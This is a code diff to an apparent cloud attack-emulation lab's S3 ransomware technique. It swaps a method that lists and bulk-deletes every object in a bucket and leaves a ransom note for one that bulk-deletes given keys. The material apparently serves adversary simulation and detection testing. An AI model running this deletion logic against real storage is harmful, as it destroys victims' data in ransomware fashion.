@@ -3,22 +3,19 @@
 from __future__ import annotations
 
 from pathlib import Path
+from typing import Any
 
-from lab.attacks.base import Prerequisites
 from lab.attacks.s3_ransomware import S3RansomwareTechnique
-from lab.emulator.endpoints import Endpoints
 
 
 class S3RansomwareBatchDeletion(S3RansomwareTechnique):
     folder = Path(__file__).parent
     PURPOSE = "target-ransomware-batch"
 
-    def detonate(self, endpoints: Endpoints, prerequisites: Prerequisites) -> None:
-        s3 = endpoints.client("s3", "attacker")
-        bucket = prerequisites["bucket"]
-        keys = [{"Key": o["Key"]} for o in s3.list_objects_v2(Bucket=bucket).get("Contents", [])]
-        s3.delete_objects(Bucket=bucket, Delete={"Objects": keys, "Quiet": True})
-        self.leave_note(s3, bucket)
+    def ransom(self, s3: Any, bucket: str, keys: list[str]) -> None:
+        s3.delete_objects(
+            Bucket=bucket, Delete={"Objects": [{"Key": k} for k in keys], "Quiet": True}
+        )
 
 
 TECHNIQUE = S3RansomwareBatchDeletion
